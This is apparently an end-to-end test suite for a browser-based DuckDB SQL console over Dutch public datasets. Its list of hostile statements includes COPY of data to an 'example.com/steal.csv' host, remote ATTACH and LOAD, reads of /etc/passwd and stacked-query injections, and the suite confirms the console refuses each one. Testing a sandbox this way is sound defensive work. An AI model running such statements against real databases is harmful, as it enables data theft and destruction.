// The SQL console in Debian's Chromium: a shared link runs its query; the CSV downloads hold the whole result
// and equal DuckDB's answer to the same SQL on the Parquet; every example question runs; hostile statements
// are refused or harmless, without a single request leaving the page, and the console keeps answering; a
// runaway query can be stopped and a huge one is limited; the explorer still loads data after the seal.
import { readFile } from 'node:fs/promises';
import type { DuckDBConnection } from '@duckdb/node-api';
import type { Browser, Page } from 'playwright-core';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Manifest } from '../../src/lib/manifest.ts';
import { GENERAL_EXAMPLES, SQL_EXAMPLES } from '../../src/lib/sqlexamples.ts';
import { launch, openPage, type Watched } from './browser.ts';
import { openSnapshot, parquet, queryRows } from './duckdb.ts';

const baseUrl = inject('baseUrl');
const distDir = inject('distDir');
const snapshot = inject('defaultSnapshot');
/** Each test opens a fresh page that starts DuckDB-WASM (twice: the explorer's engine and the console's). */
const T = 300_000;

let browser: Browser;
let con: DuckDBConnection;
let manifest: Manifest;
let dir: string;

beforeAll(async () => {
  browser = await launch();
  ({ con, manifest, dir } = await openSnapshot(distDir, snapshot));
  // The reference: the same tables as views over the published Parquet, and the console's `codes` table.
  for (const d of manifest.datasets)
    await con.run(`CREATE OR REPLACE VIEW "${d.id}" AS SELECT * FROM ${parquet(dir, d.file)}`);
  await con.run(
    `CREATE OR REPLACE TABLE codes (codelist VARCHAR, code VARCHAR, label_nl VARCHAR, label_en VARCHAR,
       description_nl VARCHAR, description_en VARCHAR)`,
  );
  const app = await con.createAppender('codes');
  for (const [id, list] of Object.entries(manifest.codelists))
    for (const c of list.codes) {
      for (const v of [
        id,
        c.code,
        c.label.nl,
        c.label.en || c.label.nl,
        c.description.nl,
        c.description.en || c.description.nl,
      ])
        app.appendVarchar(v);
      app.endRow();
    }
  app.closeSync();
});
afterAll(async () => {
  await browser?.close();
});

const sqlUrl = (sql?: string, extra = '') =>
  `${baseUrl}/#/sql?snapshot=${snapshot}${sql === undefined ? '' : `&q=${encodeURIComponent(sql)}`}${extra}`;

const status = (page: Page) => page.getByTestId('sql-status');

async function runs(page: Page): Promise<number> {
  return Number(await status(page).getAttribute('data-runs'));
}

async function waitRun(page: Page, before: number, timeout = 120_000): Promise<string> {
  await page.waitForFunction(
    (n) => Number(document.querySelector<HTMLElement>('[data-testid=sql-status]')?.dataset.runs) > n,
    before,
    { timeout },
  );
  return (await status(page).getAttribute('data-outcome')) ?? '';
}

/** Opens the console (fresh page), optionally with a query in the URL, and waits until it is ready. */
async function open(w: Watched, sql?: string): Promise<void> {
  await w.page.goto(sqlUrl(sql));
  await w.page.getByRole('button', { name: 'Uitvoeren' }).and(w.page.locator(':enabled')).waitFor({ timeout: 180_000 });
  if (sql !== undefined) await waitRun(w.page, 0);
}

/** Runs a query the way a shared link does: by putting it in the URL of the open page. */
async function runViaUrl(page: Page, sql: string, timeout?: number): Promise<string> {
  const before = await runs(page);
  await page.evaluate(
    ([s, snap]) => {
      location.hash = `#/sql?snapshot=${snap}&q=${encodeURIComponent(s)}`;
    },
    [sql, snapshot],
  );
  return waitRun(page, before, timeout);
}

async function resultTable(page: Page): Promise<string[][]> {
  return page
    .locator('.sql-result table tr')
    .evaluateAll((trs) => trs.map((tr) => [...tr.children].map((c) => c.textContent!.trim())));
}

async function download(page: Page, name: RegExp): Promise<{ path: string; filename: string }> {
  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name }).first().click()]);
  return { path: await dl.path(), filename: dl.suggestedFilename() };
}

/** DuckDB's answer in Node as the strings a CSV holds (numbers as JS prints them, dates ISO). */
async function reference(sql: string): Promise<string[][]> {
  return (await queryRows(con, sql)).map((r) => Object.values(r).map((v) => (v === null ? '' : String(v))));
}

async function csvRows(path: string, delim: ',' | ';'): Promise<string[][]> {
  const rows = await queryRows(
    con,
    `SELECT * FROM read_csv('${path}', header = true, all_varchar = true, delim = '${delim}', quote = '"', escape = '"')`,
  );
  return rows.map((r) => Object.values(r).map((v) => (v === null ? '' : String(v))));
}

describe('the SQL console', () => {
  it('runs the query of a shared link; both CSV downloads equal DuckDB on the Parquet', { timeout: T }, async () => {
    const w = await openPage(browser, baseUrl);
    const sql = `SELECT peildatum, sector, indicator, aantal, percentage
FROM wachtlijsten
WHERE aantal IS NOT NULL
ORDER BY peildatum, sector, indicator`;
    await open(w, sql);
    expect(await w.page.getByRole('textbox', { name: 'SQL' }).innerText()).toBe(sql);
    const ref = await reference(sql.replace('SELECT peildatum', "SELECT strftime(peildatum, '%Y-%m-%d')"));
    await expect(status(w.page).innerText()).resolves.toMatch(new RegExp(`^${ref.length} rijen in [\\d.]+ ms$`));
    const table = await resultTable(w.page);
    expect(table[0]).toEqual(['peildatum', 'sector', 'indicator', 'aantal', 'percentage']);
    expect(table.length - 1).toBe(ref.length);

    const csv = await download(w.page, /^Download CSV$/);
    expect(csv.filename).toMatch(new RegExp(`^sql_${snapshot}_\\d{4}-\\d{2}-\\d{2}\\.csv$`));
    expect(await csvRows(csv.path, ',')).toEqual(ref);
    const raw = await readFile(csv.path, 'utf8');
    expect(raw.split('\r\n')[0]).toBe('peildatum,sector,indicator,aantal,percentage');

    const excel = await download(w.page, /Nederlandse Excel/);
    expect(excel.filename).toMatch(/_excel-nl\.csv$/);
    const excelRaw = await readFile(excel.path, 'utf8');
    expect(excelRaw.charCodeAt(0)).toBe(0xfeff);
    expect(excelRaw).toContain(';40,2');
    const excelRows = (await csvRows(excel.path, ';')).map((r) => r.map((v) => v.replace(/^(-?\d+),(\d+)$/, '$1.$2')));
    expect(excelRows).toEqual(ref);

    // XLSX and Parquet, from the explorer's own download bar: the same rows, numbers as numbers, and where
    // they come from (publication, query).
    const asText = (v: unknown) => (v === null || v === undefined ? '' : String(v));
    const xlsx = await download(w.page, /^Download Excel-werkmap \(XLSX\)$/);
    expect(xlsx.filename).toMatch(new RegExp(`^sql_${snapshot}_\\d{4}-\\d{2}-\\d{2}\\.xlsx$`));
    const sheets = await readXlsxFile(xlsx.path);
    expect(sheets.map((s) => s.sheet)).toEqual(['Gegevens', 'Bron en filters']);
    const [head, ...body] = sheets[0].data;
    expect(head).toEqual(['peildatum', 'sector', 'indicator', 'aantal', 'percentage']);
    expect(body.map((r) => r.map(asText))).toEqual(ref);
    expect(body.every((r) => typeof r[3] === 'number')).toBe(true);
    const prov = Object.fromEntries(sheets[1].data.map((r) => [String(r[0]), String(r[1])]));
    expect(prov.Publicatie).toBe(snapshot);
    expect(prov.Query).toBe(sql);
    expect(prov.Rijen).toBe(String(ref.length));
    expect(prov['Geëxporteerd op']).toMatch(/^\d{4}-\d{2}-\d{2}T/);

    const pq = await download(w.page, /^Download Parquet$/);
    const pqRows = await queryRows(con, `SELECT * FROM read_parquet('${pq.path}')`);
    expect(pqRows.map((r) => Object.values(r).map(asText))).toEqual(ref);
    const kv = await queryRows(
      con,
      `SELECT decode(key) AS k, decode(value) AS v FROM parquet_kv_metadata('${pq.path}')`,
    );
    expect(kv.find((r) => r.k === 'Publicatie')?.v).toBe(snapshot);
    expect(kv.find((r) => r.k === 'Query')?.v).toBe(sql);

    // The chart of the result (peildatum against aantal, as a line), with its figures as a table too.
    const chart = w.page.locator('.sql-chart');
    await chart.locator('.plot svg').first().waitFor();
    await expect(chart.getByLabel('Soort grafiek').inputValue()).resolves.toBe('line');
    await expect(chart.getByLabel('Y-as (getallen)').inputValue()).resolves.toBe('aantal');
    await chart.getByLabel('Kleur (optioneel)').selectOption('sector');
    await chart.getByLabel('X-as').selectOption('indicator');
    await chart.getByLabel('Soort grafiek').selectOption('bar');
    await chart.locator('.plot svg').first().waitFor();
    const chartTable = await chart
      .locator('.chart-table tr')
      .evaluateAll((trs) => trs.map((tr) => [...tr.children].map((c) => c.textContent!.trim())));
    const meta = manifest.datasets.find((d) => d.id === 'wachtlijsten')!.columns;
    const label = (name: string) => meta.find((c) => c.name === name)!.label.nl;
    expect(chartTable[0]).toEqual([label('indicator'), label('sector'), label('aantal')]);
    expect(chartTable.length - 1).toBe(ref.length);
    w.assertClean();
    await w.context.close();
  });

  it('shows the first 1,000 rows and downloads all of them', { timeout: T }, async () => {
    const w = await openPage(browser, baseUrl);
    const sql = 'SELECT range AS i, range * 0.5 AS helft FROM range(2500) ORDER BY i';
    await open(w, sql);
    await expect(status(w.page).innerText()).resolves.toMatch(/^2\.500 rijen in/);
    await expect(w.page.locator('.sql-results .note').innerText()).resolves.toContain('eerste 1.000 van 2.500 rijen');
    expect((await resultTable(w.page)).length - 1).toBe(1000);
    const csv = await download(w.page, /^Download CSV$/);
    expect(await csvRows(csv.path, ',')).toEqual(await reference(sql));
    w.assertClean();
    await w.context.close();
  });

  it(
    'is an accessible editor: labelled, Ctrl+Enter runs, names complete, errors point at their place',
    { timeout: T },
    async () => {
      const w = await openPage(browser, baseUrl);
      await open(w);
      const page = w.page;
      const editor = page.getByRole('textbox', { name: 'SQL' });
      await editor.click();
      await page.keyboard.press('Control+a');
      await page.keyboard.insertText('SELECT count(*) AS n FROM ');
      await page.keyboard.type('wachtl');
      const option = page.locator('.cm-tooltip-autocomplete [role=option]', { hasText: 'wachtlijsten' });
      await option.first().waitFor();
      // CodeMirror ignores Enter for a moment after the list opens (so fast typing does not pick by accident).
      await page.waitForTimeout(300);
      await page.keyboard.press('Enter');
      await expect(editor.innerText()).resolves.toBe('SELECT count(*) AS n FROM wachtlijsten');
      // Column names complete too, bare and after their table's name.
      await page.keyboard.insertText(' WHERE ');
      await page.keyboard.type('indicato');
      await page.locator('.cm-tooltip-autocomplete [role=option]', { hasText: 'indicator' }).first().waitFor();
      await page.waitForTimeout(300);
      await page.keyboard.press('Enter');
      await page.keyboard.insertText(" <> '' AND wachtlijsten.");
      await page.keyboard.type('peild');
      await page.locator('.cm-tooltip-autocomplete [role=option]', { hasText: 'peildatum' }).first().waitFor();
      await page.waitForTimeout(300);
      await page.keyboard.press('Enter');
      await expect(editor.innerText()).resolves.toBe(
        "SELECT count(*) AS n FROM wachtlijsten WHERE indicator <> '' AND wachtlijsten.peildatum",
      );
      await page.keyboard.insertText(' IS NOT NULL OR true');
      let before = await runs(page);
      await page.keyboard.press('Control+Enter');
      expect(await waitRun(page, before)).toBe('done');
      await expect(status(page).innerText()).resolves.toMatch(/^1 rij in/);
      const rows = manifest.datasets.find((d) => d.id === 'wachtlijsten')!.rows;
      expect((await resultTable(page))[1]).toEqual([String(rows)]);
      // The query is in the URL, so the page can be shared as it is.
      expect(new URLSearchParams(new URL(page.url()).hash.split('?')[1]).get('q')).toBe(
        "SELECT count(*) AS n FROM wachtlijsten WHERE indicator <> '' AND wachtlijsten.peildatum IS NOT NULL OR true",
      );
      // The label of the editor is visible, not only announced.
      await expect(page.getByRole('heading', { name: 'SQL', exact: true }).isVisible()).resolves.toBe(true);

      // A column that does not exist: DuckDB's message, and the line and column it points at.
      await editor.click();
      await page.keyboard.press('Control+a');
      await page.keyboard.insertText('SELECT sector,\n       nocol\nFROM wachtlijsten');
      before = await runs(page);
      await page.getByRole('button', { name: 'Uitvoeren' }).click();
      expect(await waitRun(page, before)).toBe('error');
      const alert = page.getByRole('alert');
      await expect(alert.innerText()).resolves.toMatch(/nocol/);
      await expect(alert.innerText()).resolves.toContain('Regel 2, kolom 8');
      await expect(alert.innerText()).resolves.toContain('Binder');
      await page.getByRole('button', { name: 'Ga naar deze plek in de editor' }).click();
      await expect(page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).resolves.toBe('SQL');
      await expect(page.locator('.cm-sql-error').innerText()).resolves.toBe('nocol');

      // In English the button is "Run".
      await page.getByRole('button', { name: 'Switch to English' }).click();
      await page.getByRole('button', { name: 'Run', exact: true }).waitFor();
      w.assertClean();
      await w.context.close();
    },
  );

  it('answers every example question with rows, as DuckDB does on the Parquet', { timeout: T }, async () => {
    const w = await openPage(browser, baseUrl);
    await open(w);
    const examples = [...SQL_EXAMPLES, ...GENERAL_EXAMPLES];
    expect(examples.length).toBeGreaterThanOrEqual(20);
    for (const ex of examples) {
      const link = w.page.locator(`li[data-example="${ex.id}"] a`);
      const before = await runs(w.page);
      await link.click();
      expect(await waitRun(w.page, before), ex.id).toBe('done');
      expect(await w.page.getByRole('textbox', { name: 'SQL' }).innerText(), ex.id).toBe(ex.sql);
      const ref = await queryRows(con, ex.sql);
      expect(ref.length, ex.id).toBeGreaterThan(0);
      const shown = await resultTable(w.page);
      expect(shown.length - 1, ex.id).toBe(ref.length);
      expect(shown[0], ex.id).toEqual(Object.keys(ref[0]));
    }
    w.assertClean();
    await w.context.close();
  });
});

/**
 * What each hostile statement must get: refused by the console's gate (with the words of its reason), an
 * error of DuckDB's own (its kind, as the alert names it: the sealed engine refuses files, has no extensions),
 * or run harmlessly.
 */
type Expect = { refused: string } | { error: RegExp } | 'harmless';

const NOT = (keyword: string): Expect => ({ refused: `“${keyword}” is hier niet toegestaan` });
const MULTIPLE: Expect = { refused: 'DuckDB leest hier niet één leesopdracht' };
const CALLS = (fn: string): Expect => ({ refused: `De query roept ${fn}() aan` });
const PERMISSION: Expect = { error: /^Permission$/ };
/** In the browser's bundle a missing extension may be refused as a file access first. */
const NO_EXTENSION: Expect = { error: /^(Catalog|Permission)$/ };

const HOSTILE: [string, Expect][] = [
  ["ATTACH 'https://example.com/evil.duckdb' AS evil", NOT('ATTACH')],
  ["ATTACH ':memory:' AS scratch", NOT('ATTACH')],
  ['DETACH scratch', NOT('DETACH')],
  ["COPY wachtlijsten TO 'https://example.com/steal.csv'", NOT('COPY')],
  ["COPY (SELECT 1) TO '/tmp/x.csv'", NOT('COPY')],
  ["EXPORT DATABASE '/tmp/dump'", NOT('EXPORT')],
  ["IMPORT DATABASE 'https://example.com/dump'", NOT('IMPORT')],
  ['INSTALL httpfs', NOT('INSTALL')],
  ["INSTALL json FROM 'https://example.com/extensions'", NOT('INSTALL')],
  ['LOAD httpfs', NOT('LOAD')],
  ["LOAD 'https://example.com/evil.duckdb_extension.wasm'", NOT('LOAD')],
  ['SET enable_external_access = true', NOT('SET')],
  ['SET lock_configuration = false', NOT('SET')],
  ["SET memory_limit = '100GB'", NOT('SET')],
  ['RESET ALL', NOT('RESET')],
  ["SET search_path = 'main'", NOT('SET')],
  [
    "SET autoinstall_known_extensions = true; SET autoload_known_extensions = true; SELECT * FROM read_parquet('https://example.com/x.parquet')",
    NOT('SET'),
  ],
  ['PRAGMA enable_profiling', NOT('PRAGMA')],
  ["PRAGMA table_info('wachtlijsten')", NOT('PRAGMA')],
  ['CREATE TABLE stolen AS SELECT * FROM wachtlijsten', NOT('CREATE')],
  ['CREATE MACRO m(x) AS x + 1', NOT('CREATE')],
  ["CREATE SECRET (TYPE http, BEARER_TOKEN 'x')", NOT('CREATE')],
  ["INSERT INTO wachtlijsten (sector) VALUES ('x')", NOT('INSERT')],
  ['UPDATE rechtmatigheid SET bedrag = 0', NOT('UPDATE')],
  ['DELETE FROM wachtlijsten', NOT('DELETE')],
  ['DROP TABLE wachtlijsten', NOT('DROP')],
  ['ALTER TABLE wachtlijsten RENAME TO w', NOT('ALTER')],
  ['CALL pragma_version()', NOT('CALL')],
  ['CHECKPOINT', NOT('CHECKPOINT')],
  ['USE main', NOT('USE')],
  ['SELECT 1; DROP TABLE wachtlijsten', MULTIPLE],
  ['SELECT 1 /* ; */; DROP TABLE rechtmatigheid', MULTIPLE],
  ["SELECT ';'; DELETE FROM wachtlijsten", MULTIPLE],
  ['/* only a comment */ DROP TABLE wachtlijsten -- SELECT 1', NOT('DROP')],
  ['-- SELECT 1\nDELETE FROM wachtlijsten', NOT('DELETE')],
  ['/* nested /* comment */ SELECT 1 */ DROP TABLE wachtlijsten', NOT('DROP')],
  ['WITH x AS (SELECT 1) INSERT INTO wachtlijsten (aantal) SELECT * FROM x', MULTIPLE],
  ['EXPLAIN ANALYZE DROP TABLE wachtlijsten', MULTIPLE],
  ["SELECT * FROM query('DROP TABLE wachtlijsten')", MULTIPLE],
  ['SELECT 1\u0000; DROP TABLE wachtlijsten', { refused: 'ongeldig teken (NUL)' }],
  // Table functions that change the engine: enable_logging to a file would make every later query fail.
  ["SELECT * FROM enable_logging(storage='file', storage_path='x')", CALLS('enable_logging')],
  ['SELECT * FROM checkpoint()', CALLS('checkpoint')],
  ['SELECT * FROM force_checkpoint()', CALLS('force_checkpoint')],
  ['SELECT * FROM disable_logging()', CALLS('disable_logging')],
  ['SELECT * FROM truncate_duckdb_logs()', CALLS('truncate_duckdb_logs')],
  ['SELECT n FROM range(1) r(n) WHERE n < (SELECT count(*) FROM checkpoint())', CALLS('checkpoint')],
  ['PIVOT wachtlijsten ON sector USING sum(aantal)', { refused: 'PIVOT zonder IN kan hier niet' }],
  ["SELECT * FROM read_csv('https://example.com/data.csv')", PERMISSION],
  ["SELECT * FROM 'http://example.com/x.csv'", PERMISSION],
  ["SELECT * FROM read_parquet('/etc/passwd')", NO_EXTENSION],
  ["SELECT * FROM read_text('/etc/passwd')", PERMISSION],
  ["SELECT * FROM read_blob('https://example.com/')", PERMISSION],
  ["SELECT * FROM read_json('https://example.com/a.json')", NO_EXTENSION],
  ["SELECT * FROM glob('*')", PERMISSION],
  // The sniffer plans without opening its file, so the gate refuses it as a function that reads elsewhere.
  [`SELECT * FROM sniff_csv('data/${'e2e-2024-12'}/manifest.json')`, CALLS('sniff_csv')],
  ['SELECT * FROM arrow_scan(1, 2, 3)', { error: /^Binder$/ }],
  ["SELECT current_setting('enable_external_access') AS open", 'harmless'],
  ['SELECT * FROM duckdb_extensions() WHERE loaded', 'harmless'],
  ['EXPLAIN (FORMAT json) SELECT count(*) FROM wachtlijsten', 'harmless'],
];

describe('hostile statements', () => {
  it(
    `refuses or disarms all ${HOSTILE.length}, each for its own reason, with no request, and keeps answering`,
    { timeout: T },
    async () => {
      const w = await openPage(browser, baseUrl);
      await open(w);
      const page = w.page;
      // From here on nothing may be fetched but the site's own code (the chart's Plot chunk): every table is in
      // the engine already.
      const requests: string[] = [];
      page.on('request', (r) => {
        if (!r.url().startsWith(`${baseUrl}/assets/`)) requests.push(r.url());
      });
      const normal = 'SELECT count(*) AS n FROM rechtmatigheid';
      const rows = String(manifest.datasets.find((d) => d.id === 'rechtmatigheid')!.rows);
      const seen: string[] = [];
      for (const [sql, kind] of HOSTILE) {
        const outcome = await runViaUrl(page, sql);
        const alert = page.getByRole('alert');
        if (kind === 'harmless') {
          expect(outcome, sql).toBe('done');
        } else {
          await expect(alert.isVisible(), sql).resolves.toBe(true);
          const text = await alert.innerText();
          if ('refused' in kind) {
            expect(outcome, sql).toBe('refused');
            expect(text, sql).toMatch(/^Deze opdracht is geweigerd\n/);
            expect(text, sql).toContain(kind.refused);
          } else {
            expect(outcome, sql).toBe('error');
            expect(text, sql).toMatch(/^DuckDB kon de query niet uitvoeren\n/);
            const type = /Soort fout volgens DuckDB: (.+)$/m.exec(text)?.[1];
            expect(type, `${sql}: ${text}`).toMatch(kind.error);
          }
          seen.push(
            `${sql.replaceAll('\n', '\\n').replaceAll('\u0000', '\\0')} → ${text.split('\n').filter(Boolean).slice(0, 2).join(' / ')}`,
          );
        }
        expect(await runViaUrl(page, normal), `${sql}, then a normal query`).toBe('done');
        expect((await resultTable(page))[1], sql).toEqual([rows]);
        expect(requests, sql).toEqual([]);
      }
      // The harmless ones show what the seal did.
      expect(await runViaUrl(page, "SELECT current_setting('enable_external_access') AS open")).toBe('done');
      expect((await resultTable(page))[1]).toEqual(['false']);
      // Nothing changed: every table has its rows, no database was attached, the configuration is locked.
      const check = `SELECT (SELECT count(*) FROM wachtlijsten) AS w, (SELECT count(*) FROM rechtmatigheid) AS r,
      (SELECT count(*) FROM duckdb_databases() WHERE NOT internal) AS dbs,
      current_setting('lock_configuration') AS locked, current_setting('autoload_known_extensions') AS autoload`;
      expect(await runViaUrl(page, check)).toBe('done');
      const w0 = String(manifest.datasets.find((d) => d.id === 'wachtlijsten')!.rows);
      expect((await resultTable(page))[1]).toEqual([w0, rows, '1', 'true', 'false']);
      expect(requests).toEqual([]);
      console.log(`hostile statements and what the page said:\n${seen.join('\n')}`);
      w.assertClean();
      await w.context.close();
    },
  );

  it('stops runaway queries on request, stays responsive, and answers the next query', { timeout: T }, async () => {
    const w = await openPage(browser, baseUrl);
    await open(w);
    const page = w.page;
    const start = async (sql: string) => {
      const before = await runs(page);
      await page.evaluate(
        ([s, snap]) => {
          location.hash = `#/sql?snapshot=${snap}&q=${encodeURIComponent(s)}`;
        },
        [sql, snapshot],
      );
      await page.waitForFunction(
        () => document.querySelector<HTMLElement>('[data-testid=sql-status]')?.dataset.outcome === 'running',
      );
      return before;
    };
    // A cross join of 10^11 rows: DuckDB cancels it between slices of work.
    let before = await start('SELECT count(*) FROM range(1000000) a, range(100000) b');
    await page.waitForTimeout(1500);
    await page.getByRole('button', { name: 'Stop' }).click();
    expect(await waitRun(page, before, 30_000)).toBe('cancelled');
    await expect(status(page).innerText()).resolves.toMatch(/gestopt/);
    expect(await runViaUrl(page, 'SELECT 41 AS bijna')).toBe('done');

    // A nested-loop join that finds nothing works for minutes inside one slice: no cancel reaches it, so
    // the console's own engine is terminated and prepared again. The page stays responsive throughout.
    before = await start('SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range + b.range = -1');
    await page.waitForTimeout(1500);
    const t0 = Date.now();
    await page.evaluate(() => new Promise((r) => requestAnimationFrame(r)));
    expect(Date.now() - t0).toBeLessThan(1000);
    await expect(page.getByRole('button', { name: 'Uitvoeren' }).isDisabled()).resolves.toBe(true);
    await page.getByRole('button', { name: 'Stop' }).focus();
    await page.keyboard.press('Enter');
    expect(await waitRun(page, before, 30_000)).toBe('cancelled');
    await expect(status(page).innerText()).resolves.toMatch(/hard gestopt/);
    await expect(page.evaluate(() => document.activeElement === document.body)).resolves.toBe(false);
    await page.getByRole('button', { name: 'Uitvoeren' }).and(page.locator(':enabled')).waitFor({ timeout: 180_000 });
    expect(await runViaUrl(page, 'SELECT count(*) AS n FROM wachtlijsten')).toBe('done');
    expect((await resultTable(page))[1]).toEqual([
      String(manifest.datasets.find((d) => d.id === 'wachtlijsten')!.rows),
    ]);
    w.assertClean();
    await w.context.close();
  });

  it(
    'limits a huge result: at most 1,000,000 rows fetched, 1,000 drawn, and says so; the CSV holds all rows',
    { timeout: T },
    async () => {
      const w = await openPage(browser, baseUrl);
      await open(w);
      const page = w.page;
      const sql = 'SELECT * FROM range(3000) a, range(1000) b';
      expect(await runViaUrl(page, sql)).toBe('done');
      await expect(status(page).innerText()).resolves.toMatch(/^1\.000\.000 rijen in/);
      await expect(page.locator('.sql-results .note.warning').innerText()).resolves.toContain(
        'de eerste 1.000.000 rijen zijn opgehaald',
      );
      expect((await resultTable(page)).length - 1).toBe(1000);
      // The CSV runs the query again into the file: all 3,000,000 rows, in DuckDB's order of the same query.
      const csv = (await readFile((await download(page, /^Download CSV$/)).path, 'utf8')).split('\r\n');
      expect(csv.at(-1)).toBe('');
      expect(csv.length - 2).toBe(3_000_000);
      expect(csv[0]).toBe('range,range');
      const ref = await reference(
        `SELECT count(DISTINCT (a.range, b.range)) AS n, sum(a.range) AS sa, sum(b.range) AS sb FROM range(3000) a, range(1000) b`,
      );
      const pairs = new Set(csv.slice(1, -1));
      const sums = csv.slice(1, -1).reduce(
        (acc, line) => {
          const [x, y] = line.split(',').map(Number);
          return [acc[0] + x, acc[1] + y];
        },
        [0, 0],
      );
      expect([String(pairs.size), String(sums[0]), String(sums[1])]).toEqual(ref[0]);
      // XLSX and Parquet are made from the rows in the page, so a cut result is refused there with a way out.
      await page.getByRole('button', { name: /XLSX/ }).first().click();
      await expect(page.locator('.exports [role=alert]').innerText()).resolves.toContain('Kies CSV of CSV voor Excel');
      // Both columns are called "range": the chart offers the name once and draws nothing of the same column twice.
      await expect(page.locator('.sql-chart').getByLabel('X-as').locator('option').allInnerTexts()).resolves.toEqual([
        'range',
      ]);
      expect(await runViaUrl(page, 'SELECT 7 AS x')).toBe('done');
      w.assertClean();
      await w.context.close();
    },
  );
});

describe('the seal and the rest of the site', () => {
  it(
    'the console’s engine is sealed before its tables go in, and the explorer works next to it',
    { timeout: T },
    async () => {
      const w = await openPage(browser, baseUrl);
      const page = w.page;
      await page.goto(`${baseUrl}/#/dataset/wachtlijsten?snapshot=${snapshot}`);
      await page.locator('main table').first().waitFor({ timeout: 180_000 });
      await page.getByRole('link', { name: 'SQL', exact: true }).click();
      await page.getByRole('button', { name: 'Uitvoeren' }).and(page.locator(':enabled')).waitFor({ timeout: 180_000 });
      // Sealed (and locked) before any dataset was inserted, yet every dataset is there (a table, or a view
      // that adds the constant columns): Arrow insertion works under the seal, so datasets could equally
      // load lazily afterwards.
      const sql = `SELECT current_setting('enable_external_access') AS ext, current_setting('lock_configuration') AS locked,
      current_setting('memory_limit') AS mem, (SELECT count(*) FROM information_schema.tables WHERE table_schema = 's_${snapshot.replace(/[^A-Za-z0-9_]/g, '_')}') AS tables`;
      expect(await runViaUrl(page, sql)).toBe('done');
      const [ext, locked, mem, tables] = (await resultTable(page))[1];
      expect([ext, locked, tables]).toEqual(['false', 'true', String(manifest.datasets.length)]);
      expect(mem).toMatch(/^1[.,]\d+ GiB$/);
      for (const id of ['rechtmatigheid', 'zorgkantoren']) {
        await page.goto(`${baseUrl}/#/dataset/${id}?snapshot=${snapshot}`);
        await page.locator('main table').first().waitFor({ timeout: 60_000 });
        await expect(page.getByRole('alert').count(), id).resolves.toBe(0);
      }
      w.assertClean();
      await w.context.close();
    },
  );

  it('the home page does not load CodeMirror or the engine', { timeout: T }, async () => {
    const w = await openPage(browser, baseUrl);
    const scripts: string[] = [];
    w.page.on('request', (r) => scripts.push(r.url()));
    await w.page.goto(`${baseUrl}/`);
    await w.page.locator('.card').first().waitFor();
    await w.page.waitForTimeout(500);
    expect(scripts.filter((u) => /sqleditor|sqlconsole/.test(u))).toEqual([]);
    w.assertClean();
    await w.context.close();
  });
});
